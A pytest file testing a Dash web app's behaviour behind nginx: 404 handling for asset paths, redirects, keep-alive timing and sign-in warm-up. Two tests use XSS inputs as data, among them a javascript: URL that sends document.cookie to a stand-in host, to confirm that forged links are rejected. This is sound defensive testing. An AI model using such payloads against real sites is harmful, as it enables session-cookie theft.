"""What the app answers a proxy and a browser at its edges: unknown file paths (404, never
the page, never cached for a year), unknown component suites (404, no traceback), redirects
that keep the browser's port, the report's link to the page (only an address of this app),
the keep-alive of idle connections (longer than nginx's), and the warm-up with sign-in on."""

from __future__ import annotations

import logging
import re
import runpy
import threading
import time
from pathlib import Path

import pytest

from roc_dash.app import create_app
from roc_dash.app.server.auth import OWNER_HEADER
from roc_dash.app.server.store import DEMO_ID
from roc_dash.app.state import ControlState
from tools.dash_requests import callback_body, callback_specs

ROOT = Path(__file__).resolve().parents[4]


@pytest.fixture(scope="module", params=["/", "/roc/"])
def app(request, tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("ROC_DASH_URL_PREFIX", request.param)
        yield create_app(data_dir=tmp_path_factory.mktemp("edge") / "data"), request.param


def test_pxf001_an_unknown_path_under_the_assets_is_a_404_never_cached(app):
    """``assets//x.css?m=1`` answered the page, marked immutable for a year (and nginx kept
    it as a file); every path under assets/ that names no file is a 404 now."""
    dash_app, prefix = app
    client = dash_app.server.test_client()
    for path in ("assets//x.css?m=1", "assets//style.css?m=1", "assets/x.css?m=1",
                 "assets/sub//x.js?m=2", "_dash-component-suites//dash/x.js?m=1",
                 "_dash-component-suites/dash//x.js"):
        r = client.get(prefix + path)
        assert r.status_code == 404, (path, r.status_code)
        assert "immutable" not in r.headers.get("Cache-Control", ""), path
        assert b"DashRenderer" not in r.data, path
    # the real files are served as before, fingerprinted ones for a year
    css = client.get(prefix + "assets/style.css?m=1")
    assert css.status_code == 200 and css.mimetype == "text/css"
    assert "immutable" in css.headers["Cache-Control"]
    assert client.get(prefix + "x/y").status_code == 200  # the page's catch-all stays


def test_pxf002_an_unknown_component_suite_is_a_404_with_one_log_line(app, caplog):
    dash_app, prefix = app
    client = dash_app.server.test_client()
    with caplog.at_level(logging.INFO):
        for path in ("_dash-component-suites/nope/x.js", "_dash-component-suites/dash/nope.js",
                     "_dash-component-suites/dash/deps/react@0.0.1.min.js"):
            r = client.get(prefix + path)
            assert r.status_code == 404, (path, r.status_code)
    text = "\n".join(r.getMessage() for r in caplog.records)
    assert "Traceback" not in text and not any(r.exc_info for r in caplog.records)
    lines = [r for r in caplog.records if "404 for" in r.getMessage()]
    assert len(lines) == 3 and all("\n" not in r.getMessage() for r in lines), text


def test_pxf003_redirects_name_no_host_so_the_browser_keeps_its_port(tmp_path, monkeypatch):
    """``/roc//x/`` is redirected to ``/roc/x/``; nginx passes ``Host: $host`` (no port), so
    an absolute redirect sent the browser to port 80. A path resolves against the address
    the browser used. (At the root, the page's catch-all takes such paths: no redirect.)"""
    from flask import redirect

    monkeypatch.setenv("ROC_DASH_URL_PREFIX", "/roc/")
    server = create_app(data_dir=tmp_path / "data").server
    server.add_url_rule("/roc/away-test", "away",
                        lambda: redirect("https://other.example/x", code=302))
    client = server.test_client()
    for path, location in (("/roc//x/", "/roc/x/"), ("/roc//x/?a=1", "/roc/x/?a=1"),
                           ("/roc", "/roc/")):
        r = client.get(path, headers={"Host": "team.example"})
        assert 300 <= r.status_code < 400, path
        assert r.headers["Location"] == location, (path, r.headers["Location"])
    # a redirect the app makes elsewhere is left alone
    assert client.get("/roc/away-test").headers["Location"] == "https://other.example/x"


@pytest.mark.parametrize("href, kept", [
    ("https://team.example/roc/?cfn=5&pin=a|0.5", True),
    ("http://127.0.0.1:8080/roc/x?data=demo#top", True),
    ("javascript:alert(document.cookie)//https://team.example/roc/", False),
    ("JavaScript:alert(1)", False),
    ("data:text/html,<script>alert(1)</script>", False),
    ("https://user:pw@team.example/roc/", False),
    ("https://team.example/elsewhere/", False),
    ("https:///roc/", False),
    ("//team.example/roc/", False),
    ("https://team.example/roc/\n<script>", False),
    ("https://team.example:99999999/roc/", False),
    ("https://team.example/roc/" + "a" * 9000, False),
    (None, False),
    (["https://team.example/roc/"], False),
])
def test_pxf004_the_report_links_only_to_an_address_of_this_app(href, kept):
    from roc_dash.app.server.url_prefix import page_link

    assert page_link(href, "/roc/") == (href if kept else None)


def test_pxf005_a_forged_page_address_is_left_out_of_the_html_report(app):
    dash_app, prefix = app
    client = dash_app.server.test_client()
    specs = callback_specs(dash_app)

    def report(href):
        body = callback_body(specs, "download.data", {
            "export-html.n_clicks": 1, "datasets.data": [DEMO_ID],
            "models.value": [f"{DEMO_ID}/logistic regression"], "url.href": href,
            "conditions.data": ControlState().to_store()},
            ["export-html.n_clicks"])
        r = client.post(prefix + "_dash-update-component", json=body,
                        headers={OWNER_HEADER: "K" * 32})
        assert r.status_code == 200, r.get_data(as_text=True)[:300]
        return r.get_json()["response"]["download"]["data"]["content"]

    forged = report("javascript:fetch('//evil.example/'+document.cookie)//" + prefix)
    assert "javascript:" not in forged.lower() and "evil.example" not in forged
    assert "Open this view" not in forged
    good = f"https://team.example{prefix}?cfn=5"
    # this app's address: the view's link is it, with the page's state written in
    assert f'href="https://team.example{prefix}?v=2&amp;' in report(good)


def _upstream_keepalive_timeout(conf: str) -> float:
    block = re.search(r"upstream roc_dash \{(.*?)\}", conf, re.S).group(1)
    found = re.search(r"^\s*keepalive_timeout\s+(\d+)s?;", block, re.M)
    return float(found.group(1)) if found else 60.0  # nginx's default


def test_pxf006_the_app_keeps_idle_connections_longer_than_nginx(monkeypatch):
    """nginx must close an idle connection to the app before the app does (tests/hostile/
    test_keepalive.py replays the 503s otherwise); both files say so explicitly."""
    monkeypatch.delenv("ROC_DASH_KEEPALIVE", raising=False)
    settings = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
    app_keeps = float(settings.get("keepalive", 2))  # gunicorn's default: 2 s
    for name in ("nginx.conf", "nginx-subpath.conf"):
        conf = (ROOT / "deploy" / name).read_text()
        assert re.search(r"upstream roc_dash \{[^}]*keepalive_timeout", conf, re.S), name
        assert app_keeps > _upstream_keepalive_timeout(conf) + 5, (name, app_keeps)
    monkeypatch.setenv("ROC_DASH_KEEPALIVE", "90")
    assert runpy.run_path(str(ROOT / "gunicorn.conf.py"))["keepalive"] == 90


def test_pxf007_with_sign_in_the_warm_up_compresses_the_scripts(tmp_path, monkeypatch, caplog):
    """With ROC_DASH_USER_HEADER set, the worker's warm-up request answered 401 and the
    page's scripts were not compressed before the first visitors; now both go through (and
    a stranger's request still gets 401)."""
    monkeypatch.setenv("ROC_DASH_USER_HEADER", "X-Forwarded-User")
    settings = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
    dash_app = create_app(data_dir=tmp_path)
    packed = dash_app.server.extensions["roc_dash.security"]["cache"]

    class Worker:
        wsgi = dash_app.server
        log = logging.getLogger("gunicorn.error")

    with caplog.at_level(logging.INFO, logger="gunicorn.error"):
        settings["post_worker_init"](Worker())
        deadline = time.monotonic() + 60
        while any(t.name == settings["PRECOMPRESS_THREAD"] for t in threading.enumerate()):
            assert time.monotonic() < deadline, "the scripts were not compressed in 60 s"
            time.sleep(0.05)
    text = "\n".join(r.getMessage() for r in caplog.records)
    assert "answered 401" not in text, text
    assert dash_app._got_first_request["setup_server"]
    assert len(packed) >= 5, text  # the page's scripts and plotly.js, compressed
    done = re.search(r"(\d+) of (\d+) page scripts compressed", text)
    assert done and done.group(1) == done.group(2), text
    client = dash_app.server.test_client()
    assert client.get("/").status_code == 401
    assert client.get("/", environ_overrides={"HTTP_ROC_DASH.WARM_UP": "1"}).status_code == 401
